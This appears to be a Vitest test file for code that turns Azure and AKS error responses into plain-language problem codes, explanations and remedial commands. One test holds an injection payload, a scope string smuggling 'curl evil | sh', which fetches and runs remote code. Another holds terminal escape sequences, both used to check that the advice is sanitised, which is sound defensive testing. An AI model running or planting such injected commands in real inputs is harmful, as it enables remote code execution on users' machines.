import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { armProblem } from '../../src/azure/arm-problem.ts';
import { problemRows } from '../../src/azure/arm-problem-table.ts';
import type { Json } from '../../src/model/json.ts';
import { clusterId } from './fake-cloud.ts';

const url = `${clusterId}?api-version=2026-05-01`;
const problem = (status: number, body: Json | undefined, method: 'GET' | 'PUT' = 'GET', headers = {}) =>
  armProblem({ status, body, headers, request: { method, url } }, 0);
const error = (code: string, message = 'as Azure says it') => ({ error: { code, message } });

type Case = readonly [expected: string, status: number, body: Json | undefined, method?: 'PUT'];
const cases: readonly Case[] = [
  [
    'operation-in-progress',
    409,
    error('OperationNotAllowed', 'Operation is not allowed: Another operation (Upgrading) is in progress, see https://aka.ms/aks-pending-operation'),
    'PUT',
  ],
  ['operation-in-progress', 409, error('Conflict', 'conflict'), 'PUT'],
  ['changed-meanwhile', 409, error('EtagMismatch', 'Operation is not allowed: Another operation is in progress'), 'PUT'],
  ['changed-meanwhile', 412, error('PreconditionFailed'), 'PUT'],
  ['changed-meanwhile', 412, undefined, 'PUT'],
  ['operation-preempted', 200, error('AKSOperationPreempted'), 'PUT'],
  ['operation-preempted', 200, error('AKSOperationPreemptedByDelete'), 'PUT'],
  ['throttled', 429, error('Throttled')],
  ['throttled', 429, error('SubscriptionRequestsThrottled')],
  ['linked-right-missing', 403, error('LinkedAuthorizationFailed'), 'PUT'],
  ['not-authorized', 403, error('AuthorizationFailed')],
  ['not-authorized', 403, undefined],
  ['denied-by-policy', 403, error('RequestDisallowedByPolicy'), 'PUT'],
  ['locked', 409, error('ScopeLocked'), 'PUT'],
  ['quota-exceeded', 400, { code: 'QuotaExceeded', message: 'Provisioning failed.' }, 'PUT'],
  [
    'quota-exceeded',
    409,
    error('OperationNotAllowed', 'Operation could not be completed as it results in exceeding approved Total Regional Cores quota.'),
    'PUT',
  ],
  ['subnet-full', 200, error('SubnetIsFull'), 'PUT'],
  ['subnet-full', 400, error('InsufficientSubnetSize'), 'PUT'],
  ['drain-blocked', 200, error('PodDrainFailure'), 'PUT'],
  [
    'drain-blocked',
    200,
    error('UpgradeFailed', "Drain of node failed: Cannot evict pod as it would violate the pod's disruption budget. Too Many Requests"),
    'PUT',
  ],
  ['drain-blocked', 400, error('UnsatisfiablePDB'), 'PUT'],
  ['deprecated-api-in-use', 400, { code: 'ValidationError', message: 'x', subcode: 'UpgradeBlockedOnDeprecatedAPIUsage' }, 'PUT'],
  ['version-not-supported', 400, error('K8sVersionNotSupported'), 'PUT'],
  ['version-not-supported', 400, error('NodePoolMcVersionIncompatible'), 'PUT'],
  ['service-principal-expired', 400, error('ServicePrincipalValidationClientError'), 'PUT'],
  ['service-principal-expired', 400, error('BadRequest', 'AADSTS7000222: The provided client secret keys are expired.'), 'PUT'],
  ['service-principal-expired', 401, { error: 'invalid_client', error_description: 'AADSTS7000215: Invalid client secret provided.' }],
  ['workspace-gone', 400, error('BadRequest', 'Unable to get log analytics workspace info. Resource ID: /subscriptions/x'), 'PUT'],
  ['resource-edited', 400, error('InvalidResourceReference'), 'PUT'],
  ['node-cannot-reach', 200, error('VMExtensionError_K8SAPIServerConnFail'), 'PUT'],
  ['node-cannot-reach', 200, { error: { code: 'CreateFailed', message: 'x', details: [{ code: 'VMExtensionProvisioningError', message: 'y' }] } }, 'PUT'],
  ['no-capacity', 200, error('AksCapacityHeavyUsage'), 'PUT'],
  ['no-capacity', 200, error('AllocationFailed'), 'PUT'],
  ['property-fixed', 400, error('PropertyChangeNotAllowed'), 'PUT'],
  ['private-dns-rights', 400, error('CustomPrivateDNSZoneMissingPermission'), 'PUT'],
  ['private-dns-rights', 400, error('CreateOrUpdateVirtualNetworkLinkFailed'), 'PUT'],
  ['local-accounts-off', 400, error('BadRequest', "Getting static credential isn't allowed because this cluster is set to disable local accounts."), 'PUT'],
  ['run-command-failed', 400, error('KubernetesPerformanceError'), 'PUT'],
  ['run-command-failed', 400, error('KubernetesOperationError'), 'PUT'],
  ['cluster-not-found', 404, error('ResourceNotFound')],
  ['cluster-not-found', 404, error('ResourceGroupNotFound')],
  ['subscription-not-found', 404, error('SubscriptionNotFound')],
  ['signed-out', 401, error('ExpiredAuthenticationToken')],
  [
    'conditional-access',
    400,
    { error: 'invalid_grant', error_description: 'AADSTS50076: Due to a configuration change you must use multi-factor authentication.' },
  ],
  ['sign-in-refused', 400, { error: 'x', error_description: 'AADSTS999999: never heard of' }],
  ['outcome-unknown', 500, error('InternalServerError'), 'PUT'],
  ['outcome-unknown', 504, error('GatewayTimeout'), 'PUT'],
  ['outcome-unknown', 503, '<html><body>Service Unavailable</body></html>', 'PUT'],
  ['azure-unavailable', 503, '<html><body>Service Unavailable</body></html>'],
  ['request-refused', 400, error('InvalidParameter'), 'PUT'],
  ['azure-unreachable', 0, { code: 'ENOTFOUND', message: 'getaddrinfo ENOTFOUND' }],
  ['api-version-not-supported', 400, error('InvalidApiVersionParameter')],
  ['cluster-stopped', 400, error('OperationNotAllowed', 'managed cluster is in (Stopped) state'), 'PUT'],
  ['denied-by-assignment', 403, error('DenyAssignmentAuthorizationFailed'), 'PUT'],
  ['feature-not-registered', 400, error('FeatureNotRegistered'), 'PUT'],
  ['not-found', 400, error('ParentResourceNotFound'), 'PUT'],
  ['operation-canceled', 200, error('OperationCanceled'), 'PUT'],
  ['provider-not-registered', 409, error('MissingSubscriptionRegistration'), 'PUT'],
  ['reimage-blocked', 400, error('BadRequest', 'The node disruption policy blocks this operation.'), 'PUT'],
  ['upgrade-failed', 200, error('ReconcileVMSSAgentPoolFailed'), 'PUT'],
  ['wrong-tenant', 401, error('InvalidAuthenticationTokenTenant')],
  ['operation-failed', 200, error('InternalOperationError', 'Internal server error'), 'PUT'],
];

describe('what Azure says, in our words', () => {
  it.each(cases.map((one) => ({ one, name: JSON.stringify(one) })))('$name', ({ one }) => {
    const [expected, status, body, method = 'GET'] = one;
    const told = problem(status, body, method);
    expect(told.code).toBe(expected);
    expect(told.what).not.toBe('');
    expect(told.why).not.toBe('');
    expect(told.next.length).toBeGreaterThan(0);
    expect(told.cloud?.status).toBe(status);
  });

  it('every meaning of the table is reached by a case', () => {
    expect(problemRows.map(({ code }) => code).filter((code) => !cases.some(([expected]) => expected === code))).toEqual([]);
  });

  it('names the missing right, the scope and a role that holds it', () => {
    const message =
      "The client 'ada@example.org' with object id '11111111-2222-3333-4444-555555555555' does not have authorization to perform action 'Microsoft.ContainerService/managedClusters/write' over scope '/subscriptions/s/resourceGroups/rg-ümlaut (1)/providers/Microsoft.ContainerService/managedClusters/c' or the scope is invalid. If access was recently granted, please refresh your credentials.";
    const told = problem(403, error('AuthorizationFailed', message), 'PUT');
    expect(told.what).toContain('Microsoft.ContainerService/managedClusters/write');
    expect(told.what).toContain('rg-ümlaut (1)');
    expect(told.next[0]).toContain('--role "Azure Kubernetes Service Contributor Role"');
    expect(told.next[0]).toContain('--assignee-object-id 11111111-2222-3333-4444-555555555555');
  });

  it('a linked right names what is missing, not what is there', () => {
    const message =
      "The client 'x' with object id '11111111-2222-3333-4444-555555555555' has permission to perform action 'Microsoft.ContainerService/managedClusters/write' on scope '/subscriptions/s/resourceGroups/rg'; however, it does not have permission to perform action(s) 'Microsoft.Network/virtualNetworks/subnets/join/action' on the linked scope(s) '/subscriptions/s/resourceGroups/net/providers/Microsoft.Network/virtualNetworks/v/subnets/n' (respectively) or the linked scope(s) are invalid.";
    const told = problem(403, error('LinkedAuthorizationFailed', message), 'PUT');
    expect(told.what).toBe(
      'The sign-in lacks the right Microsoft.Network/virtualNetworks/subnets/join/action on /subscriptions/s/resourceGroups/net/providers/Microsoft.Network/virtualNetworks/v/subnets/n.',
    );
    expect(told.next[0]).toContain('"Network Contributor"');
  });

  it('a message cannot put a command into the advice', () => {
    const message = "does not have authorization to perform action 'a/read' over scope '/subscriptions/s\"; curl evil | sh; \"' or the scope is invalid.";
    const told = problem(403, error('AuthorizationFailed', message));
    expect(told.next.join('\n')).not.toContain('curl');
  });

  it('keeps request ids, Retry-After and target, and cleans every text', () => {
    const body = { error: { code: 'Throttled\u001b[31m', message: 'slow\r\ndown \u202eevil \u001b]0;title\u0007', target: 't\u0000' } };
    const told = problem(429, body, 'PUT', { 'x-ms-request-id': 'r1', 'x-ms-correlation-request-id': 'c1', 'retry-after': '30' });
    expect(told.cloud).toEqual({
      status: 429,
      code: 'Throttled',
      message: 'slow down evil',
      target: 't',
      requestId: 'r1',
      correlationId: 'c1',
      retryAfterMs: 30_000,
    });
    expect(told.code).toBe('throttled');
  });

  it('cuts a page of text', () => {
    expect(problem(400, 'x'.repeat(100_000)).why.length).toBeLessThan(2000);
  });
});

const recorded = new URL('../../../shared/data/arm/errors.json', import.meta.url);
if (!existsSync(recorded)) console.log('skipped: recorded errors are not here (../shared/data/arm/errors.json)');
describe.runIf(existsSync(recorded))('recorded errors', () => {
  it('each has a meaning, and every 5xx of a write is an unknown outcome', () => {
    const errors = JSON.parse(readFileSync(recorded, 'utf8')) as { status: number; code: string | null; command: string; response: Json }[];
    const seen = errors.map(({ status, code, response }) => [code, problem(status, response, 'PUT').code]);
    for (const [i, { status }] of errors.entries()) if (status >= 500) expect(seen[i]?.[1]).toBe('outcome-unknown');
    expect(Object.fromEntries(seen)).toMatchObject({
      QuotaExceeded: 'quota-exceeded',
      ServicePrincipalNotFound: 'service-principal-expired',
      FailedIdentityOperation: 'throttled',
    });
  });
});
